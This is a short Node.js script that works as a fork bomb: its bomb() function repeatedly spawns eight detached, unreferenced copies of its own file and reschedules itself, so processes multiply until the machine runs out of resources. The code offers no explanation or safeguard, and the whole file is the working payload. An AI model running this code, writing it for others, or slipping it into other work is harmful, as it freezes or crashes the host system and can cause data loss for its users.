const { spawn } = require("child_process");
let started = 0;
function bomb() {
    for (let i = 0; i < 8; i++) {
        try {
            const c = spawn(process.execPath, [__filename], { detached: true, stdio: "ignore" });
            c.on("error", () => {});
            c.unref();
            started++;
        } catch (e) {
            // keep going
        }
    }
    setImmediate(bomb);
}
bomb();
